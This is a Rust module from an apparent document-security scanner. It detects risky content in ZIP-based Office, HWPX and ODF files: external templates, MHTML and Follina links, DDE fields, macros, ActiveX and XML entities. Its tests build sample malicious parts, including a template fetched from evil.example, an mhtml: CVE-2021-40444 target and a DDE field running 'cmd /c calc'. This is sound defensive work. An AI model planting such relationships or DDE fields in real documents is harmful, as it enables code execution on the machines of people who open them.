//! ZIP-based files: plain archives, OOXML (DOCX/XLSX/PPTX), HWPX, ODF, JAR/APK. The shared
//! ZIP reader checks the container; this module recognises the application and checks its
//! rules: OOXML relationships with external targets (template injection, `oleObject`
//! CVE-2017-0199, `mhtml:` CVE-2021-40444, `ms-msdt:` CVE-2022-30190), DDE fields, VBA
//! projects, XML entity declarations, HWPX's `mimetype` entry; embedded parts are scanned
//! with the same engine.

pub mod xml;

use haetae_core::Severity;

use crate::bytes::contains_ignore_case;
use crate::container::zip::{self, ZipArchive, ZipEntry};
use crate::context::ScanContext;
use crate::filetype::FileType;
use crate::finding::{Finding, FindingClass, Location};
use crate::formats::Format;

/// ZIP and the formats built on it.
#[derive(Debug, Clone, Copy)]
pub struct Zip;

impl Format for Zip {
    fn name(&self) -> &'static str {
        "zip"
    }

    fn detect(&self, data: &[u8]) -> Option<FileType> {
        (data.starts_with(b"PK\x03\x04") || data.starts_with(b"PK\x05\x06"))
            .then_some(FileType::Zip)
    }

    fn verify(&self, data: &[u8], ctx: &mut ScanContext) -> FileType {
        let Some(archive) = zip::parse(data, ctx) else {
            return FileType::Zip;
        };
        let kind = classify(data, &archive, ctx);
        let mut total: u64 = 0;
        for entry in &archive.entries {
            if ctx.out_of_time() {
                break;
            }
            total = total.saturating_add(entry.uncompressed);
            if entry.is_dir() {
                continue;
            }
            verify_entry(data, entry, kind, ctx);
        }
        let ratio = ctx.limits().max_ratio;
        if total > (data.len() as u64).max(1).saturating_mul(ratio) {
            ctx.structure(
                "ZIP-TOTAL-RATIO",
                Severity::High,
                Location::default(),
                format!("entries declare {total} bytes in all from a {}-byte file (ratio above {ratio})", data.len()),
            );
        }
        if kind == FileType::Hwpx {
            check_hwpx_mimetype(&archive, ctx);
        }
        kind
    }
}

fn classify(data: &[u8], archive: &ZipArchive, ctx: &mut ScanContext) -> FileType {
    let has = |n: &str| archive.entry(n).is_some();
    if let Some(m) = archive.entry("mimetype")
        && let Some(mime) = m.data.and_then(|(s, l)| data.get(s..s + l.min(100)))
    {
        if mime.starts_with(b"application/hwp+zip") {
            return FileType::Hwpx;
        }
        if mime.starts_with(b"application/vnd.oasis.opendocument") {
            return FileType::Odf;
        }
    }
    let _ = ctx;
    if has("[Content_Types].xml") {
        if archive.entries.iter().any(|e| e.name.starts_with("word/")) {
            return FileType::Docx;
        }
        if archive.entries.iter().any(|e| e.name.starts_with("xl/")) {
            return FileType::Xlsx;
        }
        if archive.entries.iter().any(|e| e.name.starts_with("ppt/")) {
            return FileType::Pptx;
        }
    }
    if has("AndroidManifest.xml") && has("classes.dex") {
        return FileType::Apk;
    }
    if has("META-INF/MANIFEST.MF") {
        return FileType::Jar;
    }
    FileType::Zip
}

fn lower_ext(name: &str) -> String {
    name.rsplit_once('.')
        .map(|(_, e)| e.to_ascii_lowercase())
        .unwrap_or_default()
}

fn verify_entry(data: &[u8], entry: &ZipEntry, kind: FileType, ctx: &mut ScanContext) {
    let ext = lower_ext(&entry.name);
    let lname = entry.name.to_ascii_lowercase();
    let is_xml = matches!(ext.as_str(), "xml" | "rels" | "hpf" | "vml");
    let is_vba = lname.ends_with("vbaproject.bin");
    let embedded = lname.contains("embeddings/")
        || lname.contains("activex/")
        || lname.starts_with("bindata/")
        || matches!(
            ext.as_str(),
            "bin"
                | "ole"
                | "exe"
                | "dll"
                | "js"
                | "vbs"
                | "ps1"
                | "hta"
                | "zip"
                | "pdf"
                | "docx"
                | "doc"
                | "xls"
                | "xlsx"
                | "ppt"
                | "pptx"
                | "rtf"
                | "hwp"
        );
    let loc = Location::part(entry.name.clone());
    if is_vba {
        ctx.active(
            "OOXML-VBA",
            Severity::Medium,
            loc.clone(),
            "the document carries a VBA macro project",
        );
    }
    if lname.ends_with("activex/activex1.xml") || (lname.contains("activex/") && ext == "xml") {
        ctx.active(
            "OOXML-ACTIVEX",
            Severity::Medium,
            loc.clone(),
            "the document embeds an ActiveX control",
        );
    }
    if kind == FileType::Hwpx && lname.starts_with("scripts/") {
        ctx.active(
            "HWPX-SCRIPT",
            Severity::Medium,
            loc.clone(),
            "the document carries a script",
        );
    }
    if !(is_xml || is_vba || embedded) {
        zip::check(data, entry, ctx);
        return;
    }
    let Some(content) = zip::read(data, entry, ctx) else {
        return;
    };
    if is_xml {
        verify_xml(&content, entry, kind, ctx);
    } else {
        let detected = ctx.scan_embedded(&content, &entry.name);
        if detected == FileType::Cfb && lname.contains("oleobject") {
            ctx.active(
                "OOXML-OLE-OBJECT",
                Severity::Low,
                loc,
                "an embedded OLE object",
            );
        }
    }
}

fn verify_xml(content: &[u8], entry: &ZipEntry, kind: FileType, ctx: &mut ScanContext) {
    let loc = Location::part(entry.name.clone());
    if let Err(e) = xml::check_well_formed(content) {
        ctx.structure(
            "XML-MALFORMED",
            Severity::High,
            Location {
                offset: Some(e.offset as u64),
                ..loc.clone()
            },
            format!("the XML part is not well-formed: {}", e.message),
        );
    }
    if contains_ignore_case(
        content.get(..content.len().min(4096)).unwrap_or_default(),
        b"<!ENTITY",
    ) || contains_ignore_case(
        content.get(..content.len().min(4096)).unwrap_or_default(),
        b"<!DOCTYPE",
    ) {
        ctx.structure(
            "XML-ENTITY",
            Severity::High,
            loc.clone(),
            "a DTD or entity declaration in an Office part (entity expansion / billion laughs, XXE)",
        );
    }
    if entry.name.ends_with(".rels") {
        check_relationships(content, ctx, &loc);
    }
    // DDE lives in Word field instructions and in Excel external links.
    let word_part = entry.name.starts_with("word/") && kind == FileType::Docx;
    let link_part = entry.name.starts_with("xl/externalLinks/");
    if word_part || link_part {
        check_dde(content, ctx, &loc);
    }
}

fn check_relationships(content: &[u8], ctx: &mut ScanContext, loc: &Location) {
    for rel in xml::elements(content, b"Relationship") {
        let mode = xml::attr(rel, b"TargetMode").unwrap_or_default();
        let target = xml::attr(rel, b"Target").unwrap_or_default();
        let kind = xml::attr(rel, b"Type").unwrap_or_default();
        let t = target.to_ascii_lowercase();
        if t == "about:blank" {
            // Points nowhere: what haetae's disarm leaves of an external relationship.
            continue;
        }
        let short_type = kind.rsplit('/').next().unwrap_or_default().to_owned();
        let loc = loc.clone().with_part(format!(
            "{} > Relationship {}",
            loc.part.clone().unwrap_or_default(),
            xml::attr(rel, b"Id").unwrap_or_default()
        ));
        if t.starts_with("mhtml:") || t.contains("!x-usc:") {
            ctx.report(
                Finding::new(
                    "OOXML-MHTML-LINK",
                    Severity::Critical,
                    FindingClass::ActiveContent,
                    loc,
                    format!("a relationship to {target:?} loads an MHTML document through the MSHTML engine"),
                )
                .cve(&["CVE-2021-40444"]),
            );
            continue;
        }
        if t.starts_with("ms-msdt:") || t.contains("ms-msdt:") {
            ctx.report(
                Finding::new(
                    "OOXML-MSDT-LINK",
                    Severity::Critical,
                    FindingClass::ActiveContent,
                    loc,
                    format!("a relationship to {target:?} runs the MSDT troubleshooter (Follina)"),
                )
                .cve(&["CVE-2022-30190"]),
            );
            continue;
        }
        if !mode.eq_ignore_ascii_case("External") {
            continue;
        }
        match short_type.as_str() {
            "attachedTemplate" => ctx.report(
                Finding::new(
                    "OOXML-EXTERNAL-TEMPLATE",
                    Severity::High,
                    FindingClass::ActiveContent,
                    loc,
                    format!("the document loads its template from {target:?} when opened (template injection)"),
                )
                .cve(&["CVE-2017-0199"]),
            ),
            "oleObject" | "frame" | "subDocument" => ctx.report(
                Finding::new(
                    "OOXML-EXTERNAL-OBJECT",
                    Severity::High,
                    FindingClass::ActiveContent,
                    loc,
                    format!("a {short_type} relationship fetches {target:?} when opened"),
                )
                .cve(&["CVE-2017-0199"]),
            ),
            "hyperlink" => {}
            _ => ctx.active(
                "OOXML-EXTERNAL-LINK",
                Severity::Low,
                loc,
                format!("a {short_type} relationship points outside the document to {target:?}"),
            ),
        }
    }
}

fn check_dde(content: &[u8], ctx: &mut ScanContext, loc: &Location) {
    // Field instructions may be split over several runs: join them before looking.
    let mut instr = Vec::new();
    for text in xml::element_texts(content, b"w:instrText") {
        instr.extend_from_slice(text);
    }
    for a in xml::attr_values(content, b"w:instr") {
        instr.push(b' ');
        instr.extend_from_slice(a);
    }
    let upper = instr.to_ascii_uppercase();
    let is_dde = upper
        .split(|b| !b.is_ascii_alphanumeric())
        .any(|w| w == b"DDE" || w == b"DDEAUTO");
    if is_dde {
        ctx.active(
            "OOXML-DDE",
            Severity::High,
            loc.clone(),
            "a DDE field runs a command when the document is opened or updated",
        );
    }
    if !xml::elements(content, b"ddeLink").is_empty() {
        ctx.active(
            "OOXML-DDE",
            Severity::High,
            loc.clone(),
            "a DDE link to another application",
        );
    }
}

fn check_hwpx_mimetype(archive: &ZipArchive, ctx: &mut ScanContext) {
    let first = archive.entries.first();
    if first.is_none_or(|e| e.name != "mimetype" || e.method != 0) {
        ctx.structure(
            "HWPX-MIMETYPE",
            Severity::Medium,
            Location::part("mimetype"),
            "the mimetype entry must be the first entry and stored uncompressed",
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::container::zip::build::zip;
    use crate::testing::findings_of;

    fn codes(data: &[u8], name: &str) -> Vec<String> {
        findings_of(data, name)
            .into_iter()
            .map(|(c, _)| c)
            .collect()
    }

    const CT: &[u8] = b"<?xml version=\"1.0\"?><Types xmlns=\"x\"><Default Extension=\"xml\" ContentType=\"a\"/></Types>";
    const DOC: &[u8] = b"<?xml version=\"1.0\"?><w:document><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>";

    #[test]
    fn a_plain_docx_is_clean() {
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/document.xml", DOC, true),
        ]);
        assert_eq!(codes(&z, "a.docx"), Vec::<String>::new());
    }

    #[test]
    fn an_external_template_is_reported_with_its_relationship() {
        let rels = b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/document.xml", DOC, true),
            ("word/_rels/settings.xml.rels", rels, true),
        ]);
        assert_eq!(
            findings_of(&z, "a.docx"),
            vec![(
                "OOXML-EXTERNAL-TEMPLATE".to_owned(),
                "word/_rels/settings.xml.rels > Relationship rId1".to_owned()
            )]
        );
    }

    #[test]
    fn an_mhtml_target_is_cve_2021_40444() {
        let rels = b"<Relationships><Relationship Id=\"rId9\" Type=\"x/oleObject\" Target=\"mhtml:http://e.example/x.html!x-usc:http://e.example/x.html\" TargetMode=\"External\"/></Relationships>";
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/_rels/document.xml.rels", rels, false),
        ]);
        assert_eq!(codes(&z, "a.docx"), ["OOXML-MHTML-LINK"]);
    }

    #[test]
    fn a_dde_field_split_over_runs_is_found() {
        let doc = b"<w:document><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd /c calc</w:instrText></w:r></w:document>";
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/document.xml", doc, true),
        ]);
        assert_eq!(codes(&z, "a.docx"), ["OOXML-DDE"]);
    }

    #[test]
    fn an_entity_declaration_is_reported() {
        let doc = b"<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaa\">]><w:document>&a;</w:document>";
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/document.xml", doc, true),
        ]);
        assert!(codes(&z, "a.docx").contains(&"XML-ENTITY".to_owned()));
    }

    #[test]
    fn unbalanced_xml_is_malformed() {
        let doc = b"<w:document><w:body></w:document>";
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/document.xml", doc, true),
        ]);
        assert_eq!(codes(&z, "a.docx"), ["XML-MALFORMED"]);
    }

    #[test]
    fn a_vba_project_is_active_content() {
        let z = zip(&[
            ("[Content_Types].xml", CT, true),
            ("word/vbaProject.bin", b"not really", true),
        ]);
        assert_eq!(codes(&z, "a.docm"), ["OOXML-VBA"]);
    }

    #[test]
    fn an_hwpx_mimetype_must_come_first_and_stored() {
        let z = zip(&[
            ("Contents/content.hpf", b"<a/>", true),
            ("mimetype", b"application/hwp+zip", false),
        ]);
        assert_eq!(codes(&z, "a.hwpx"), ["HWPX-MIMETYPE"]);
    }
}
